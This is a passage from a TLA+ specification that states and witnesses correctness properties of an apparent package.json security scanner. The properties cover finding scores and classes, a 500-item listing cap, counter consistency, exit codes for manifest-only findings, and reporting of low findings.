    /\ SumSummary(ret.v.summary, Classes) = Len(ret.v.out)
    /\ Len(ret.v.out) = Len(Collected(arg))

\* a report with a high, a medium and a low finding
C24_Witness ==
  /\ Returned
  /\ Len(arg.pjs) <= MaxOut
  /\ ret.v.summary = [critical |-> 0, high |-> 1, medium |-> 1, low |-> 1]
\* the findings of out that qualify for the listing, in the order of out
Qualifying(out0) ==
  SelectSeq(out0, LAMBDA r : r.level \in {"critical", "high", "medium"})

\* C25: the listing holds at most 500 findings, of classes critical, high and
\* medium only, in descending order of score from first to last; it is the
\* sorted qualifying findings cut after the 500th, so none left out scores
\* more than one listed.
C25_ListingCappedAndOrdered ==
  Returned =>
    LET p == ret.v.printable
        q == Qualifying(ret.v.out)
    IN /\ Len(p) <= PrintCap
       /\ \A i \in DOMAIN p : p[i].level \in {"critical", "high", "medium"}
       /\ \A i \in 1 .. Len(p) - 1 : p[i].score >= p[i + 1].score
       /\ Len(p) = Min(PrintCap, Len(q))
       /\ \A i \in DOMAIN p : p[i] = q[i]
       /\ \A i \in Len(p) + 1 .. Len(q) : q[i].score <= p[Len(p)].score

\* more than 500 findings of classes high and medium: 500 are listed, of
\* both classes
C25_Witness ==
  /\ Returned
  /\ Len(Qualifying(ret.v.out)) > PrintCap
  /\ Len(ret.v.printable) = PrintCap
  /\ ret.v.printable[1].level = "high"
  /\ ret.v.printable[PrintCap].level = "medium"
SkippedFiles == {skipped[i] : i \in DOMAIN skipped}

\* the counters and collections of a scan, in one state
CountersConsistent ==
  /\ 0 <= processed /\ processed <= total
  /\ Len(out) + Len(skipped) <= processed + Cardinality(RunningFiles)
  /\ OutFiles \cap SkippedFiles = {}
  /\ \A i, j \in DOMAIN out : out[i].file = out[j].file => i = j
  /\ \A i, j \in DOMAIN skipped : skipped[i] = skipped[j] => i = j

\* C26: in every state of a scan processed is between 0 and total, the
\* findings and the skipped paths together number at most processed plus the
\* files running, no path is in both collections or twice in one; and no
\* step lowers processed.
C26_CountersConsistent ==
  [](CountersConsistent) /\ [][processed' >= processed]_vars

\* a finding and a skipped path are recorded while another file is running
C26_Witness ==
  /\ Len(out) >= 1
  /\ Len(skipped) >= 1
  /\ RunningFiles # {}
  /\ processed = 2
\* out when the manifest inspected is the only file of the tree
OnlyFinding(r) == IF r = Nothing THEN << >> ELSE << r >>

\* C27: for every package.json pkgPostInstall and pkgExecNet are not both
\* set, multipleSignals is at most 1, the score is at most 70 and the class
\* is not critical; with FAIL_ON = critical the finding alone gives exit
\* code 0.
C27_ManifestNeverCritical ==
  Returned =>
    /\ ~(ret.v.parts.pkgPostInstall /\ ret.v.parts.pkgExecNet)
    /\ ret.v.parts.multipleSignals <= 1
    /\ scoreFinding(ret.v.parts) <= 70
    /\ classify(scoreFinding(ret.v.parts)) # "critical"
    /\ ret.v.outcome.v.level # "critical"
    /\ ExitCode(SummaryOf(Grouped(OnlyFinding(ret.v.outcome.v))), "critical")
         = 0

\* a manifest with a postinstall download, a bin map and a vscode engine:
\* score 70, class high, one counted signal
C27_Witness ==
  /\ Returned
  /\ arg.json = "object"
  /\ ret.v.parts.pkgPostInstall
  /\ ret.v.parts.multipleSignals = 1
  /\ ret.v.outcome.v # Nothing
  /\ ret.v.outcome.v.score = 70
  /\ ret.v.outcome.v.level = "high"
\* the Finding of path f in a sorted out, Nothing when there is none
FindingOf(out0, f) ==
  IF \E i \in DOMAIN out0 : out0[i].file = f
  THEN out0[CHOOSE i \in DOMAIN out0 : out0[i].file = f]
  ELSE Nothing

\* C28: with includeLow true, or minScore at most 0, every package.json
\* inspected to the end has a Finding in the report; one where no signal was
\* set has score 0, class low and no signals, and summary.low counts every
\* Finding of class low.
C28_LowFindingsReported ==
  Returned /\ (arg.includeLow \/ arg.minScore <= 0) =>
    /\ \A f \in DOMAIN arg.pjs :
         /\ FindingOf(ret.v.out, f) # Nothing
         /\ ManifestParts(arg.pjs[f]) = NoParts =>
              /\ FindingOf(ret.v.out, f).score = 0
              /\ FindingOf(ret.v.out, f).level = "low"
              /\ FindingOf(ret.v.out, f).signals = {}
    /\ ret.v.summary["low"] =
         Cardinality({f \in DOMAIN arg.pjs :
                        classify(ScoreOfPj(arg.pjs[f])) = "low"})

\* INCLUDE_LOW off and MIN_SCORE 0: a manifest that sets no signal is
\* reported with score 0 and counted in summary.low, next to a high finding
C28_Witness ==
  /\ Returned
  /\ ~arg.includeLow /\ arg.minScore = 0
  /\ \E f \in DOMAIN arg.pjs :
       /\ arg.pjs[f] = PjNone
       /\ FindingOf(ret.v.out, f).score = 0
       /\ FindingOf(ret.v.out, f).signals = {}
  /\ ret.v.summary["low"] >= 1
  /\ ret.v.summary["high"] >= 1
====
